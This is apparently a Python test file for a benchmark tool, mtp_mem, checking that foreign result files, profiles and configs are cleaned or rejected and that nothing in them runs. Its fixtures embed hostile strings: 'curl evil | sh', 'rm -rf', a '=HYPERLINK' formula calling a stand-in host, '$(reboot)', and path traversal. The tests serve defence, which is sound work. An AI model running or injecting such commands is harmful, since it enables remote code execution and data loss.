"""Files of strangers: named and left out, or exit code 2 in one line; nothing of theirs runs."""

import json
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from command_line import mtp_mem
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mtp_mem.config.foreign import DEEPEST, document
from mtp_mem.errors import LONGEST_TEXT, BadInput

RECORDED = Path(__file__).parents[2] / "profiles/recorded/cpu-2-cores/quick/results.jsonl"
PROFILE = """
name = {name}
[model]
vocab_size = {vocab_size}
dim = 32
n_layers = {n_layers}
n_attention_heads = 2
[workload]
batch = 1
sequence = 8
tokenizer = "uniform"
[sweep]
n = [1]
"""


def rows(count: int = 4) -> list[dict[str, Any]]:
    return [json.loads(line) for line in RECORDED.read_text().splitlines()[:count]]


def results(folder: Path, *records: Any) -> None:
    lines = [record if isinstance(record, str) else json.dumps(record) for record in records]
    (folder / "results.jsonl").write_text("\n".join(lines) + "\n")


JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=6,
)


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    data=st.data(),
    value=JSON_VALUES | st.sampled_from([10**400, -1, 2**63, "\x1b[2J", "\x00", "../../x", "x" * 5000, "NaN"]),
)
def test_a_record_with_one_field_of_anything(tmp_path: Path, data: st.DataObject, value: Any) -> None:
    record, *others = rows()
    group = data.draw(st.sampled_from([None, "model", "workload", "environment"]))
    table = record if group is None else record[group]
    table[data.draw(st.sampled_from(sorted(table)))] = value
    results(tmp_path, record, *others)
    ended = mtp_mem(tmp_path, "regressions", "results.jsonl", "results.jsonl")
    assert ended.returncode in (0, 1, 2)
    assert "Traceback" not in ended.stderr
    assert not re.search("[\x00-\x08\x0e-\x1f\x7f]", ended.stdout + ended.stderr)


NO_RECORDS = (
    ("[" * 100_000, "nested too deep"),
    ("[" * (DEEPEST + 2) + "]" * (DEEPEST + 2), f"nested more than {DEEPEST} deep"),
    ('{"n": NaN}', "holds NaN, which JSON does not have"),
    ('{"n": 9223372036854775808}', "holds a whole number beyond 2**63"),
    ('{"n": -Infinity}', "holds -Infinity"),
    ('{"n": 1', "not a whole JSON object"),
    ("3", "not a JSON object"),
    ("\udcff".encode("utf-8", "surrogateescape").decode("latin-1"), "not a whole JSON object"),
)


def test_a_line_that_is_no_record_is_named_and_left_out(tmp_path: Path) -> None:
    results(tmp_path, *(line for line, _ in NO_RECORDS), *rows())
    ended = mtp_mem(tmp_path, "report", "results.jsonl", "-o", "r.html")
    assert ended.returncode == 0
    said = [line for line in ended.stderr.splitlines() if "skipped" in line]
    for number, (line, (_, words)) in enumerate(zip(said, NO_RECORDS, strict=True), 1):
        assert f"results.jsonl:{number}: skipped: " in line
        assert words in line
    assert (tmp_path / "r.html").exists()


def test_texts_are_cleaned_as_they_enter() -> None:
    text = "a\x1b[2J\x00\r\nb\ud800\u2028" + "x" * 2000
    (cleaned,) = document(json.dumps([text]))
    assert cleaned.startswith("a\ufffd[2J\ufffd b\ufffd\ufffd")
    assert len(cleaned) < LONGEST_TEXT + 10
    with pytest.raises(BadInput, match="cut off"):
        document(b"\xff\xfe")


def test_no_command_of_a_stranger_stands_in_the_block_to_run_again(tmp_path: Path) -> None:
    record, *others = rows()
    for one in (record, *others):
        one["environment"]["torch"] = "2.13.0\ncurl evil | sh\n# "
        one["workload"]["source"] = "a text\nrm -rf x"
    record["strategy"] = '=HYPERLINK("http://evil";"x")\n$(reboot)'
    results(tmp_path, record, *others)
    assert mtp_mem(tmp_path, "report", "results.jsonl", "-o", "r.html", "--charts", "c").returncode == 0
    page = (tmp_path / "r.html").read_text()
    assert not re.search(r"^(curl|rm|\$\()", page, re.MULTILINE)
    cells = [cell for path in (tmp_path / "c").rglob("*.csv") for cell in re.split(r"[,\n]", path.read_text())]
    assert not [cell for cell in cells if cell.strip('"').startswith("=")]


ONE_AFTER_THE_OTHER = """import json, os, runpy, sys
for command in json.loads(sys.argv[1]):
    sys.path.insert(0, os.getcwd())  # as `python -m` does
    sys.argv[1:] = command
    try:
        runpy.run_module("mtp_mem", run_name="__main__", alter_sys=True)
    except SystemExit as e:
        assert e.code == 0, command
"""


def test_nothing_in_the_folder_runs(tmp_path: Path) -> None:
    ran = tmp_path / "RAN"
    code = f"open({str(ran)!r}, 'w').close()\n"
    for name in ("liger_kernel", "quack", "evil", "transformers", "rich"):
        (tmp_path / f"{name}.py").write_text(code)
    records = rows()
    for record, spec in zip(records, ("liger", "evil:Strategy", "evil:X:y=1", "quack"), strict=True):
        record["strategy"], record["case"] = spec, spec
    results(tmp_path, *records)
    commands = ["report", "results.jsonl", "-o", "r.html"], ["list"], ["profile", "check", "quick"]
    done = subprocess.run([sys.executable, "-c", ONE_AFTER_THE_OTHER, json.dumps(commands)], cwd=tmp_path)
    assert done.returncode == 0
    assert not ran.exists()
    ended = mtp_mem(tmp_path, "verify", "--strategies", "evil:Strategy")
    assert ended.returncode == 2
    assert ran.exists()  # what the user names does run


@pytest.mark.parametrize(
    ("changes", "words"),
    [
        ({"name": '"../../x"'}, "results go to a folder of this name"),
        ({"name": '"/tmp/x"'}, "results go to a folder of this name"),
        ({"name": '""'}, "results go to a folder of this name"),
        ({"name": '"a\\u0000b"'}, "results go to a folder of this name"),
        ({"name": f'"{"x" * 101}"'}, "results go to a folder of this name"),
        ({"n_layers": 10**12}, "no machine has a model with more than 2000"),
        ({"vocab_size": 10**12}, "no machine has a model with more than"),
        ({"name": "[" * 5000 + "]" * 5000}, "nested too deep"),
    ],
)
def test_a_profile_that_cannot_be(tmp_path: Path, changes: dict[str, Any], words: str) -> None:
    fields = {"name": '"mine"', "vocab_size": 300, "n_layers": 2}
    (tmp_path / "p.toml").write_text(PROFILE.format(**fields))
    assert mtp_mem(tmp_path, "profile", "check", "p.toml").returncode == 0
    (tmp_path / "p.toml").write_text(PROFILE.format(**fields | changes))
    for command in (["profile", "check"], ["predict", "--profile"], ["plan", "--profile"]):
        ended = mtp_mem(tmp_path, *command, "p.toml")
        assert (ended.returncode, ended.stdout) == (2, "")
        assert words in ended.stderr
        assert ended.stderr.count("\n") == 1


@pytest.mark.parametrize("median", ['"x"', "[1]", "null"])
def test_a_benchmark_file_with_no_number(tmp_path: Path, median: str) -> None:
    bench = f'{{"fullname": "t", "stats": {{"median": {median}}}, "extra_info": {{}}}}'
    (tmp_path / "b.json").write_text(f'{{"machine_info": {{}}, "benchmarks": [{bench}]}}')
    ended = mtp_mem(tmp_path, "regressions", "b.json", "b.json")
    assert ended.returncode == 2
    assert "Traceback" not in ended.stderr


@pytest.mark.parametrize("key", ["num_hidden_layers", "n_layer", "num_experts"])
def test_a_config_of_more_than_any_model_has(tmp_path: Path, key: str) -> None:
    """Transformers makes a list of as many types of layers as the config says."""
    config = {"model_type": "qwen2", "text_config": {key: 2**31}}
    (tmp_path / "config.json").write_text(json.dumps(config))
    for command in ("predict", "plan", "compare"):
        ended = mtp_mem(tmp_path, command, "--hf", ".")
        assert (ended.returncode, ended.stdout) == (2, "")
        assert ended.stderr == f"mtp-mem: config.json: {key} = 2147483648: no machine has a model with more than 2000\n"
